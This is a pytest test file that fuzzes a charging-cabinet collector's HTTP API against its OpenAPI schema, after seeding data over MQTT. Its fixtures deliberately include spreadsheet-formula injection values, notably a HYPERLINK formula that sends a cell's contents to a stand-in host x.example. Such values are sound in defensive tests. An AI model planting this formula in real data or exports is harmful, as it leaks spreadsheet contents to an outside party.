"""Schema-driven fuzzing of the HTTP API: every operation in /openapi.json, with inputs
schemathesis generates from that schema (valid and invalid ones), against the real collector
process with an admin's API token. Each answer must be no 5xx and exactly what the schema
publishes: a documented status code, its content type, headers and body schema.

The collector holds real data first (cabinets over MQTT with hostile asset tags and names, an
alert, an acknowledgement, silences, a charge session), so the answers have something in them
to check. Examples are bounded (``MAX_EXAMPLES`` per operation and generation mode) and
derandomised, so a run takes the same inputs and about the same time every time.
"""

from __future__ import annotations

import json
import urllib.request
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final

import paho.mqtt.client as mqtt
import pytest
import schemathesis
from hypothesis import HealthCheck, settings
from paho.mqtt.enums import CallbackAPIVersion
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_headers_conformance,
    response_schema_conformance,
    status_code_conformance,
)

from cabinet_agent.common.protocol import (
    AgentStatus,
    BirthMessage,
    Certainty,
    Channel,
    ChargeSession,
    DeviceHealth,
    DoorState,
    EventKind,
    EventMessage,
    MainsState,
    Sensing,
    SessionEnd,
    SlotInfo,
    SlotSnapshot,
    SlotState,
    StateMessage,
    StatusMessage,
    TelemetryMessage,
    encode,
    topic_for,
)
from server.alerts.state import StoredState
from server.api import ApiSources, create_app
from server.auth import Role, User
from server.clock import utcnow
from server.fleet import Fleet
from server.ingest import MqttStats
from server.pipeline import IngestStats
from server.tsdb.base import SinkHealth, SinkStats
from server.web import Dashboard, install_dashboard
from tests.support.api_auth import admin_token, api_get, user_store
from tests.support.procs import ManagedProcess, console_script, wait_until
from tests.support.services import Broker, start_mosquitto

pytestmark = [pytest.mark.integration, pytest.mark.store_per_module]

MAX_EXAMPLES: Final = 25
REFUSED_EXAMPLES: Final = 5
SITE, CABINET, GONE = "gs-fuzz", "k1", "k2"
BOOT: Final = "f" * 32
HOSTILE_TAG: Final = '=HYPERLINK("http://x.example/?"&A1;"Akku")'
CHECKS: Final = [not_a_server_error, status_code_conformance, content_type_conformance,
                 response_headers_conformance, response_schema_conformance]

_CONFIG: Final = """
[mqtt]
host = '{host}'
port = {port}
client_id = 'collector-fuzz-{suffix}'
reconnect_min_s = 0.2
reconnect_max_s = 1.0
[http]
port = 0
[state]
dir = 'state'
[alerts]
offline_pending_s = 0.5
tick_s = 0.1
settle_s = 0.5
[organisation]
district = '=Kreis "Fuzz"; -1'
district_team = 'it'
[[organisation.teams]]
id = 'it'
name = 'IT'
[[organisation.municipalities]]
id = 'nord'
name = '@Nord'
[[organisation.schools]]
site = '{site}'
name = '+Grundschule, Raum=12'
municipality = 'nord'
[[organisation.cabinets]]
school = '{site}'
id = '{cabinet}'
name = '-Raum 7'
"""


class Api:
    def __init__(self, url: str, token: str, viewer_token: str) -> None:
        self.url, self.token, self.viewer_token = url, token, viewer_token

    def get(self, path: str) -> Any:
        return api_get(self.url + path, self.token)

    def post(self, path: str, body: dict[str, Any]) -> Any:
        request = urllib.request.Request(
            self.url + path, data=json.dumps(body).encode(), method="POST",
            headers={"Authorization": f"Bearer {self.token}", "Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=5) as response:
            return json.loads(response.read())


def _messages(now: datetime) -> list[tuple[str, bytes, bool]]:
    seq = iter(range(1, 100))

    def env(cabinet: str) -> dict[str, Any]:
        return {"v": 1, "site": SITE, "cabinet": cabinet, "boot_id": BOOT, "seq": next(seq),
                "ts": now, "clock_synced": True}

    since = now - timedelta(hours=3)
    session = ChargeSession(slot=1, asset_tag=HOSTILE_TAG, started_at=now - timedelta(hours=2),
                            ended_at=now - timedelta(minutes=5), duration_s=6900.0,
                            energy_wh=21.5, peak_w=18.0, end=SessionEnd.FULL, taper_wh=3.5)
    k1 = [
        (Channel.STATUS, StatusMessage(**env(CABINET), status=AgentStatus.ONLINE), True),
        (Channel.BIRTH, BirthMessage(
            **env(CABINET), agent_version="0.3.0", config_hash="0123abcd",
            cabinet_model="ladewache-16", slot_count=3, poll_interval_s=1.0,
            telemetry_interval_s=10.0,
            slots=[SlotInfo(slot=1, asset_tag=HOSTILE_TAG), SlotInfo(slot=2, asset_tag="-1"),
                   SlotInfo(slot=3)],
            sensing=Sensing(slot_power=True, presence=False, door=True,
                            evidence_window_s=432000.0)), True),
        (Channel.STATE, StateMessage(**env(CABINET), slots=[
            SlotSnapshot(slot=1, state=SlotState.CHARGED, power_w=0.0, since=since,
                         certainty=Certainty.PROBABLE, last_draw_at=since,
                         unseen_since=now - timedelta(hours=1)),
            SlotSnapshot(slot=2, state=SlotState.CHARGING, power_w=14.0, since=since,
                         certainty=Certainty.CERTAIN, last_draw_at=now),
            SlotSnapshot(slot=3, state=SlotState.UNKNOWN, power_w=None, since=since,
                         certainty=Certainty.CANNOT_TELL)],
            door=DoorState.CLOSED, temperature_c=21.5, mains=MainsState.ON,
            devices=[DeviceHealth(name="meter", ok=False, error="=timeout")]), True),
        (Channel.TELEMETRY, TelemetryMessage(
            **env(CABINET), power_w=[0.0, 14.5, None],
            states=[SlotState.CHARGED, SlotState.CHARGING, SlotState.UNKNOWN],
            certainty=[Certainty.PROBABLE, Certainty.CERTAIN, Certainty.CANNOT_TELL],
            temperature_c=21.5, door=DoorState.CLOSED, mains=MainsState.ON, devices=[],
            outbox_dropped=2), False),
        (Channel.EVENT, EventMessage(**env(CABINET), event=EventKind.SESSION_ENDED, slot=1,
                                     session=session), False),
    ]
    gone = [(Channel.STATUS, StatusMessage(**env(GONE), status=AgentStatus.OFFLINE), True)]
    return [(topic_for(SITE, cabinet, channel), encode(message), retain)
            for cabinet, batch in ((CABINET, k1), (GONE, gone))
            for channel, message, retain in batch]


def _publish(broker: Broker, messages: list[tuple[str, bytes, bool]]) -> None:
    client = mqtt.Client(CallbackAPIVersion.VERSION2, client_id=f"fuzz-{uuid.uuid4().hex[:8]}")
    client.connect(broker.host, broker.port)
    client.loop_start()
    try:
        wait_until(client.is_connected, 20, "the test publisher connected")
        for topic, payload, retain in messages:
            client.publish(topic, payload, qos=1, retain=retain).wait_for_publish(timeout=10)
    finally:
        client.disconnect()
        client.loop_stop()


def _seed(api: Api, broker: Broker) -> None:
    """Data in every kind of answer: a cabinet with slots, sensing, a device error, delivery
    counters and a stored session; an offline one with a firing alert, acknowledged; a weekly
    silence, a technician's, and an expired one."""
    wait_until(lambda: api.get("/healthz")["mqtt_connected"], 20, "collector subscribed")
    for slot, tag in ((1, HOSTILE_TAG), (2, "-1")):  # the inventory's tags, as hostile as can be
        api.post("/api/inventory/place", {"asset_tag": tag, "site": SITE, "cabinet": CABINET,
                                          "slot": slot, "create": True})
    _publish(broker, _messages(datetime.now(UTC)))
    alert = wait_until(lambda: next(iter(api.get("/api/alerts?state=firing")["alerts"]), None),
                       20, "the offline cabinet's alert firing")
    wait_until(lambda: api.get(f"/api/cabinets/{SITE}/{CABINET}/slots/1/history")["sessions"],
               20, "the charge session stored")
    wait_until(lambda: api.get(f"/api/cabinets/{SITE}/{CABINET}/slots/2/history")["transitions"],
               20, "the slot history sampled")
    api.post(f"/api/alerts/{alert['fingerprint']}/ack", {"comment": "=1+1"})
    until = (datetime.now(UTC) + timedelta(days=30)).isoformat()
    api.post("/api/silences", {"matchers": {"site": SITE}, "ends_at": until, "comment": "@x",
                               "weekly": {"days": [0, 6], "start": "22:00", "end": "06:00"}})
    api.post(f"/api/cabinets/{SITE}/{GONE}/technician",
             {"until": (datetime.now(UTC) + timedelta(hours=2)).isoformat()})
    made = api.post("/api/silences", {"matchers": {"alertname": "door_open"}, "ends_at": until})
    api.post(f"/api/silences/{made['id']}/expire", {})


def _viewer_token(state_dir: Path) -> str:
    with user_store(state_dir) as store:
        store.add_user(User("viewer", Role.VIEWER, school=SITE), "a-long-password",
                       datetime.now(UTC))
        return store.create_token("viewer", "fuzz", datetime.now(UTC))


@pytest.fixture(scope="module")
def collector(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    """One collector and broker for every operation's test: seeding takes seconds."""
    tmp_path = tmp_path_factory.mktemp("fuzz")
    broker = start_mosquitto(tmp_path / "mosquitto")
    config = tmp_path / "server.toml"
    config.write_text(_CONFIG.format(host=broker.host, port=broker.port, site=SITE,
                                     cabinet=CABINET, suffix=uuid.uuid4().hex[:8]),
                      encoding="utf-8")
    token = admin_token(tmp_path / "state")
    viewer = _viewer_token(tmp_path / "state")
    process = ManagedProcess("cabinet-server",
                             [console_script("cabinet-server"), "run", "--config", str(config)])
    try:
        line = process.wait_for_line(lambda ln: ln.startswith("READY http="), timeout=30)
        api = Api(line.split("=", 1)[1], token, viewer)
        assert api.get("/openapi.json") == SPEC, "the collector publishes another schema"
        _seed(api, broker)
        yield api
    finally:
        process.stop()
        broker.process.stop()
    assert not [ln for ln in process.lines if "Traceback" in ln], process.output()


def _published_schema() -> dict[str, Any]:
    """/openapi.json as the collector's code makes it. The test items (one per operation) are
    made when pytest collects, before any server runs; the fixture checks that the running
    collector publishes exactly this. (schemathesis's ``from_fixture`` would load it from the
    server, but fails on pytest 9.2: it sets ``Node._nodeid``, which pytest 9.2 removed.)"""
    sources = ApiSources(fleet=Fleet(), alerts=StoredState.in_memory(), clock=utcnow,
                         ingest_stats=lambda **_: IngestStats(0, 0, {}),
                         mqtt_stats=lambda: MqttStats(False, 0, 0, None),
                         tsdb_stats=lambda: SinkStats(SinkHealth.NONE))
    app = create_app(sources)
    install_dashboard(app, Dashboard(sources))
    return app.openapi()


SPEC: Final = _published_schema()
schema = schemathesis.openapi.from_dict(SPEC, config=schemathesis.Config())


@schema.parametrize()
@settings(max_examples=MAX_EXAMPLES, derandomize=True, deadline=None, database=None,
          suppress_health_check=list(HealthCheck))
def test_every_operation_answers_as_its_schema_says(case: schemathesis.Case,
                                                    collector: Api) -> None:
    case.call_and_validate(base_url=collector.url, checks=CHECKS, timeout=10,
                           headers={"Authorization": f"Bearer {collector.token}"})


@schema.parametrize()
@pytest.mark.parametrize("who", ["viewer", "nobody"])
@settings(max_examples=REFUSED_EXAMPLES, derandomize=True, deadline=None, database=None,
          suppress_health_check=list(HealthCheck))
def test_refusals_are_documented_too(case: schemathesis.Case, collector: Api, who: str) -> None:
    """A school's viewer (403 on every change, 403/404 outside the school) and a caller
    without credentials (401): refusals are answers the schema must publish as well."""
    headers = {"Authorization": f"Bearer {collector.viewer_token}"} if who == "viewer" else {}
    case.call_and_validate(base_url=collector.url, checks=CHECKS, timeout=10, headers=headers)
